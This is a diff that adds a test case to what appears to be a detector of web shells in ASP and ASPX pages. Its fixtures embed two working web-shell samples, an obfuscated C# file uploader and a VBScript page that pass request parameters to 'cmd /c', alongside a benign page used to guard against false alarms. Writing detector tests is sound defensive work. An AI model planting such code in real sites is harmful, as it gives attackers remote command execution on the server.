@@ -157,3 +157,51 @@ test("a call's argument taints the parameter in its place, not its neighbours", 
     String(rules(loose, "l.ashx")),
   );
 });
+
+test("request data returned by the page's own function taints every call of it", () => {
+  // C#: an obfuscated uploader whose request access hides behind one-line methods.
+  const cs = [
+    '<%@ Page Language="C#" %>',
+    "<script runat=\"server\">",
+    "HttpFileCollection _0x1() { return Request.Files; }",
+    'string _0x2() { return Request.Form["d"]; }',
+    "protected void Page_Load(object s, EventArgs e) {",
+    "  HttpPostedFile f = _0x1()[0];",
+    "  f.SaveAs(Server.MapPath(\"~/\") + _0x2() + f.FileName);",
+    "  var p = Process.Start(\"cmd.exe\", \"/c \" + this._0x2());",
+    "}",
+    "</script>",
+  ].join("\n");
+  assert.ok(
+    rules(cs, "x.aspx").some((r) => r.startsWith("flow-process")),
+    String(rules(cs, "x.aspx")),
+  );
+  assert.ok(strong(cs, "up.aspx"), String(checks(cs, "up.aspx")));
+  // VB: the function returns by assigning its own name.
+  const vb = [
+    "<%",
+    "Function Cmd()",
+    '  Cmd = Request("c")',
+    "End Function",
+    "Set sh = Server.CreateObject(\"WScript.Shell\")",
+    "Response.Write sh.Exec(\"cmd /c \" & Cmd()).StdOut.ReadAll",
+    "%>",
+  ].join("\n");
+  assert.ok(strong(vb, "v.asp"), String(checks(vb, "v.asp")));
+  // Trap: helpers returning the application's own settings and paths feed the same kind of calls.
+  const app = [
+    '<%@ Page Language="C#" %>',
+    "<script runat=\"server\">",
+    'string ToolPath() { return ConfigurationManager.AppSettings["ffmpeg"]; }',
+    'string Root() { return Server.MapPath("~/App_Data/thumbs/"); }',
+    "protected void Page_Load(object s, EventArgs e) {",
+    '  string q = Request.QueryString["page"];',
+    '  var p = Process.Start(ToolPath(), "-i " + Root() + "intro.mp4 -vframes 1 " + Root() + "intro.jpg");',
+    "  p.WaitForExit();",
+    '  File.WriteAllText(Root() + "last.txt", DateTime.Now.ToString());',
+    "}",
+    "</script>",
+  ].join("\n");
+  assert.ok(!rules(app, "t.aspx").some((r) => r.startsWith("flow-")), String(rules(app, "t.aspx")));
+  assert.deepEqual(checks(app, "thumbs.aspx"), []);
+});
